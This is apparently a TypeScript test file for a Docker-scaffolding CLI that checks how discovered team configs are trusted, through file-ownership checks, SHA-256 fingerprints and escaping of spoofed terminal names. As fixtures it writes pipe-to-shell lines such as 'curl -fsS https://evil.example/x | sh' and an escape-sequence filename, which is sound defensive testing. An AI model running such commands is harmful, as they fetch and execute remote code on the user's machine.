/**
 * A team config found on its own is not the user's choice (issue 13): where the search may look (up to
 * the repository root, never a folder other users can write), what trust is given to (a SHA-256 of the
 * config and every file it brings in, in the user's own state), and the decision: --config is consent,
 * --trust-config or the prompt trusts, --yes alone refuses.
 */
import assert from 'node:assert/strict';
import { chmodSync, chownSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'mocha';
import { discoverTeamConfig, fingerprintOf, recordTrust, trustState, trustStorePath } from '../../src/config-trust.js';
import { CancelledError, InputError, exitCodeOf } from '../../src/errors.js';
import type { Prompter } from '../../src/session/prompter.js';
import { ALL_TEAM_SETTINGS, decideTrust, teamEffects } from '../../src/session/trust.js';
import { loadTeamConfig, type TeamConfig } from '../../src/team-config.js';
import { tempDir, writeTree } from '../support/temp-tree.js';

const CONFIG = '.slim-docker.json';

/** A parent folder with a config and a project two levels below it. */
function nest(config: object = { registry: 'mirror.example' }): { parent: string; project: string } {
  const parent = tempDir('slim-trust-');
  const project = join(parent, 'services', 'svc');
  mkdirSync(project, { recursive: true });
  writeFileSync(join(parent, CONFIG), JSON.stringify(config));
  return { parent, project };
}

/** A prompter that answers the trust question (and records that it was asked). */
function answering(choice: string): Prompter & { asked: string[] } {
  const asked: string[] = [];
  return {
    asked,
    async select(name, message) {
      asked.push(`${name}: ${message}`);
      return choice;
    },
    input: async () => '',
    confirm: async () => true,
  };
}

const env = () => ({ XDG_CONFIG_HOME: tempDir('slim-xdg-') }) as NodeJS.ProcessEnv;

describe('team config search', () => {
  it('stops at the repository root: a config above the folder holding .git is never read', () => {
    const { parent, project } = nest();
    mkdirSync(join(parent, 'services', '.git'));
    assert.equal(discoverTeamConfig(project).path, undefined);
    writeFileSync(join(parent, 'services', CONFIG), '{}');
    assert.equal(
      discoverTeamConfig(project).path,
      join(parent, 'services', CONFIG),
      'the repository root itself counts',
    );
    // A worktree or submodule has a .git file, not a folder: the same root.
    const other = nest();
    writeFileSync(join(other.parent, 'services', '.git'), 'gitdir: /elsewhere\n');
    assert.equal(discoverTeamConfig(other.project).path, undefined);
  });
  it('never reads a config from a folder every user can write (such as /tmp), and says so', () => {
    const { parent, project } = nest();
    chmodSync(parent, 0o1777);
    const found = discoverTeamConfig(project);
    assert.equal(found.path, undefined);
    assert.deepEqual(found.ignored, [{ path: join(parent, CONFIG), why: 'its folder is writable by every user' }]);
    assert.equal(loadTeamConfig(project), undefined);
  });
  it('never reads a config owned by another user, or in a folder owned by one', () => {
    const { parent, project } = nest();
    const uid = process.getuid!();
    const other = uid === 0 ? 4242 : uid + 1;
    // As root (CI) the owner can be changed; as a user, ask as if we were someone else.
    if (uid === 0) chownSync(join(parent, CONFIG), other, other);
    const found = discoverTeamConfig(project, uid === 0 ? uid : other);
    assert.equal(found.path, undefined);
    assert.match(found.ignored[0].why, /owned by another user \(uid \d+\)/);
  });
  it('finds the nearest safe config, and --config names any file (naming it is consent)', () => {
    const { parent, project } = nest();
    assert.equal(discoverTeamConfig(project).path, join(parent, CONFIG));
    assert.equal(loadTeamConfig(project)?.discovered, true);
    assert.equal(loadTeamConfig(project, join(parent, CONFIG))?.discovered, false);
  });
});

describe('trust record', () => {
  it("lives in the user's own config folder, 0600, holding the SHA-256 of the config and of every template", () => {
    const { parent, project } = nest({ templates: './tpl' });
    writeTree(parent, { 'tpl/python/Dockerfile.ejs': 'FROM x\n', 'tpl/common/part.ejs': '# part\n' });
    const store = env();
    const team = loadTeamConfig(project)!;
    const now = fingerprintOf(team.path, team.templates, undefined);
    assert.deepEqual(Object.keys(now.files), ['templates/common/part.ejs', 'templates/python/Dockerfile.ejs']);
    assert.equal(trustState(team.path, now, store).state, 'unknown');
    const path = recordTrust(team.path, now, store);
    assert.equal(path, join(store.XDG_CONFIG_HOME!, 'slim-docker', 'trusted.json'));
    assert.equal(trustStorePath(store), path);
    assert.equal(statSync(path).mode & 0o777, 0o600);
    assert.match(readFileSync(path, 'utf8'), /"config": "sha256:[0-9a-f]{64}"/);
    assert.equal(trustState(team.path, now, store).state, 'trusted');
    // Any change to a template (or a new one) is a new config to trust.
    writeFileSync(join(parent, 'tpl/python/Dockerfile.ejs'), 'FROM y\n');
    const changed = trustState(team.path, fingerprintOf(team.path, team.templates, undefined), store);
    assert.equal(changed.state, 'changed');
    assert.deepEqual(changed.changed, ['templates/python/Dockerfile.ejs']);
  });
});

describe('trust covers every template that can run (issue 20 item 1)', () => {
  /** Trusted as it is, then one file (`late`) beyond what an old walk reached is changed. */
  const trustedThenChanged = (files: Record<string, string>, late: string) => {
    const { parent, project } = nest({ templates: './tpl' });
    writeTree(join(parent, 'tpl'), { 'node/Dockerfile.ejs': `FROM x\n<%- include('${late}') %>\n`, ...files });
    const store = env();
    const team = loadTeamConfig(project)!;
    let refused: unknown;
    try {
      recordTrust(team.path, fingerprintOf(team.path, team.templates, undefined), store);
      writeFileSync(join(parent, 'tpl', late), 'RUN curl evil.example | sh\n');
      return { state: trustState(team.path, fingerprintOf(team.path, team.templates, undefined), store).state };
    } catch (error) {
      refused = error;
    }
    return { refused };
  };
  const refusedWithOneLine = (result: { state?: string; refused?: unknown }) => {
    assert.equal(result.state, undefined, 'never "trusted" by a hash that skipped the changed file');
    assert.ok(result.refused instanceof InputError);
    assert.equal(exitCodeOf(result.refused), 2);
    assert.equal(result.refused.message.split('\n').length, 1);
    assert.match(result.refused.message, /at most 500 files, 8 folder levels deep/);
  };

  it('a template deeper than the walk once went (12 levels) is not skipped: the folder is refused', () => {
    const deep = `${Array.from({ length: 13 }, (_, i) => `d${i}`).join('/')}/late.ejs`;
    refusedWithOneLine(trustedThenChanged({ [deep]: 'RUN true\n' }, deep));
  });

  it('a template past the file cap (2,000 once) is not skipped: the folder is refused', () => {
    const many = Object.fromEntries(
      Array.from({ length: 2100 }, (_, i) => [`fill/f${String(i).padStart(4, '0')}.ejs`, '']),
    );
    refusedWithOneLine(trustedThenChanged(many, 'fill/f2099.ejs'));
  });

  it('what renders is what was trusted: a template changed or added after the trust check is refused, not rendered', async () => {
    const { renderAll } = await import('../../src/render.js');
    const { plan } = await import('../../src/plan.js');
    const planned = plan(
      {
        appName: 'demo',
        language: 'python',
        framework: 'flask',
        entrypoint: 'app:app',
        runtimeVersion: '3.13',
        port: 5000,
        base: 'slim',
        sampleApp: true,
        buildkit: true,
      },
      { folderName: 'demo', empty: true, detected: [] },
    );
    for (const late of ['python/Dockerfile.ejs', 'python/dependencies.ejs']) {
      const { parent, project } = nest({ templates: './tpl' });
      writeTree(join(parent, 'tpl'), {
        'python/Dockerfile.ejs': 'FROM x\n# team\n<%- include("../python/dependencies.ejs") %>\n',
      });
      const team = loadTeamConfig(project)!;
      const store = env();
      const trusted = await decideTrust(team, {
        projectDir: project,
        yes: true,
        trustConfig: true,
        templatesFlag: false,
        uses: ALL_TEAM_SETTINGS,
        prompter: undefined,
        log: () => undefined,
        env: store,
      });
      const overrides = { dir: trusted!.templates!, hashes: trusted!.templateHashes };
      assert.match((await renderAll(planned, overrides))[0].contents, /^# team$/m);
      // Between the trust check and the render: the trusted file is edited, or a new one shadows a built-in.
      writeFileSync(join(parent, 'tpl', late), 'RUN curl evil.example | sh\n');
      await assert.rejects(
        renderAll(planned, overrides),
        (error: unknown) =>
          error instanceof InputError &&
          exitCodeOf(error) === 2 &&
          new RegExp(`changed after you trusted it, during this run \\(${late.replace('.', '\\.')}\\)`).test(
            error.message,
          ),
        late,
      );
    }
  });

  it('within the bounds every file is hashed, so a change to any of them asks again', () => {
    const many = Object.fromEntries(
      Array.from({ length: 400 }, (_, i) => [`fill/f${String(i).padStart(3, '0')}.ejs`, '']),
    );
    assert.deepEqual(trustedThenChanged(many, 'fill/f399.ejs'), { state: 'changed' });
    const deep = `${Array.from({ length: 7 }, (_, i) => `d${i}`).join('/')}/late.ejs`;
    assert.deepEqual(trustedThenChanged({ [deep]: '' }, deep), { state: 'changed' });
  });
});

describe('the trust listing cannot be spoofed (issue 20 item 9)', () => {
  const ESC = '\u001b';
  const spoof = `python/${ESC}[1A${ESC}[2K\r  templates: none\u202e.ejs`;

  it('every name shown is made visible: no escape sequence, carriage return or bidi control reaches the terminal', () => {
    const { parent, project } = nest({ templates: './tpl' });
    writeTree(join(parent, 'tpl'), { [spoof]: 'FROM x\n' });
    const [line] = teamEffects(loadTeamConfig(project)!, { uses: ALL_TEAM_SETTINGS, templatesFlag: false });
    assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
    assert.ok(line.includes('"python/\\u001b[1A\\u001b[2K\\u000d  templates: none\\u202e.ejs"'), line);
    assert.match(line, /replaces 1 built-in template file\(s\)/);
  });

  it('a changed file is always named, however many files the folder holds and however it is named', async () => {
    const { parent, project } = nest({ templates: './tpl' });
    const files = Object.fromEntries(
      Array.from({ length: 40 }, (_, i) => [`node/p${String(i).padStart(2, '0')}.ejs`, '']),
    );
    writeTree(join(parent, 'tpl'), { ...files, [spoof]: 'FROM x\n' });
    const store = env();
    const team = loadTeamConfig(project)!;
    recordTrust(team.path, fingerprintOf(team.path, team.templates, undefined), store);
    writeFileSync(join(parent, 'tpl', spoof), 'FROM evil\n');
    writeFileSync(join(parent, 'tpl', 'node/p39.ejs'), 'RUN evil\n');
    const projectDir = project;
    const base = {
      projectDir,
      trustConfig: false,
      templatesFlag: false,
      uses: ALL_TEAM_SETTINGS,
      log: () => undefined,
      env: store,
    };
    await assert.rejects(decideTrust(team, { ...base, yes: true, prompter: undefined }), (error: unknown) => {
      assert.ok(error instanceof InputError);
      assert.equal(error.message.split('\n').length, 1);
      assert.doesNotMatch(error.message, /[\u0000-\u001f\u202e]/);
      assert.match(
        error.message,
        /changed since you trusted it \(templates\/node\/p39\.ejs, "templates\/python\/\\u001b/,
      );
      return true;
    });
    const prompter = answering('abort');
    await assert.rejects(decideTrust(team, { ...base, yes: false, prompter }), CancelledError);
    assert.match(prompter.asked[0], /templates\/node\/p39\.ejs/);
    assert.doesNotMatch(prompter.asked[0], /[\u0000-\u001f\u202e]/);
  });
});

describe('trust decision', () => {
  const options = (team: TeamConfig, overrides: Partial<Parameters<typeof decideTrust>[1]> = {}) => ({
    projectDir: join(team.path, '..', 'services', 'svc'),
    yes: true,
    trustConfig: false,
    templatesFlag: false,
    uses: ALL_TEAM_SETTINGS,
    prompter: undefined,
    log: () => undefined,
    env: env(),
    ...overrides,
  });

  it('under --yes a found config that is not trusted is refused with one line (exit 2) naming what it sets', async () => {
    const { parent, project } = nest({ templates: './tpl', registry: 'evil.example', labels: { a: 'b' } });
    mkdirSync(join(parent, 'tpl'));
    const team = loadTeamConfig(project)!;
    await assert.rejects(decideTrust(team, options(team)), (error: unknown) => {
      assert.ok(error instanceof InputError);
      assert.equal(exitCodeOf(error), 2);
      assert.equal(error.message.split('\n').length, 1);
      assert.match(
        error.message,
        /\.slim-docker\.json: was found \(in \.\.\/\.\.\), not given with --config, and is not trusted yet: it sets templates \(code that runs as you\), registry, labels; review it, then rerun with --trust-config/,
      );
      return true;
    });
  });
  it('--trust-config trusts it and records the trust; the next --yes run needs no flag', async () => {
    const { project } = nest();
    const team = loadTeamConfig(project)!;
    const first = options(team, { trustConfig: true });
    assert.equal(await decideTrust(team, first), team);
    assert.equal(await decideTrust(team, { ...first, trustConfig: false }), team);
  });
  it('the prompt: trust records it, ignore drops it for this run, abort writes nothing', async () => {
    const { project } = nest();
    const team = loadTeamConfig(project)!;
    const ignore = answering('ignore');
    assert.equal(await decideTrust(team, options(team, { yes: false, prompter: ignore })), undefined);
    assert.match(ignore.asked[0], /^trustConfig: Use this team config\? It was found .* it sets registry$/);
    await assert.rejects(
      decideTrust(team, options(team, { yes: false, prompter: answering('abort') })),
      CancelledError,
    );
    const store = env();
    assert.equal(
      await decideTrust(team, options(team, { yes: false, prompter: answering('trust'), env: store })),
      team,
    );
    assert.equal(await decideTrust(team, options(team, { env: store })), team, 'trusted from now on');
  });
  it('needs no trust when named with --config, when it sets only answers, or when --templates replaces its templates', async () => {
    const named = nest({ templates: '.' });
    const explicit = loadTeamConfig(named.project, join(named.parent, CONFIG))!;
    assert.equal(await decideTrust(explicit, options(explicit)), explicit);
    const answersOnly = loadTeamConfig(nest({ defaults: { port: 8000 }, locked: { base: 'slim' } }).project)!;
    assert.equal(await decideTrust(answersOnly, options(answersOnly)), answersOnly);
    const templatesOnly = loadTeamConfig(nest({ templates: '.' }).project)!;
    assert.equal(await decideTrust(templatesOnly, options(templatesOnly, { templatesFlag: true })), templatesOnly);
  });
  it('a release command in defaults or locked needs trust like templates, and is shown whole (issue 20 item 6)', async () => {
    for (const where of ['defaults', 'locked'] as const) {
      const { project } = nest({ [where]: { releaseCommand: 'curl -fsS https://evil.example/x | sh' } });
      const team = loadTeamConfig(project)!;
      assert.deepEqual(teamEffects(team, { uses: ALL_TEAM_SETTINGS, templatesFlag: false }), [
        '  release command: `curl -fsS https://evil.example/x | sh` runs (a shell command) before the server on every start',
      ]);
      await assert.rejects(
        decideTrust(team, options(team)),
        (error: unknown) =>
          error instanceof InputError &&
          exitCodeOf(error) === 2 &&
          /not trusted yet: it sets a release command \(a shell command\); review it/.test(error.message),
        where,
      );
      const store = env();
      assert.equal(await decideTrust(team, options(team, { trustConfig: true, env: store })), team);
      assert.equal(await decideTrust(team, options(team, { env: store })), team, 'trusted from now on');
    }
    // "none" runs nothing: an answers-only config still needs no trust.
    const none = loadTeamConfig(nest({ locked: { releaseCommand: 'none' } }).project)!;
    assert.equal(await decideTrust(none, options(none)), none);
  });
  it('what a config changes is shown in words: registry, labels, uid, CA certificate, the templates it replaces', () => {
    const { parent, project } = nest({
      registry: 'mirror.example/hub',
      labels: { team: 'pay' },
      uid: 20001,
      templates: './tpl',
    });
    writeTree(parent, { 'tpl/python/dockerignore.ejs': '*\n' });
    const lines = teamEffects(loadTeamConfig(project)!, { uses: ALL_TEAM_SETTINGS, templatesFlag: false });
    // The templates first: they are code.
    assert.deepEqual(lines.slice(1), [
      '  registry: every base image comes from mirror.example/hub/ instead of Docker Hub',
      '  labels: team="pay"',
      '  uid: the app runs as uid 20001',
    ]);
    assert.match(
      lines[0],
      /^ {2}templates: .*tpl replaces 1 built-in template file\(s\): python\/dockerignore\.ejs; the \.dockerignore rules among them\. Templates are code/,
    );
  });
});
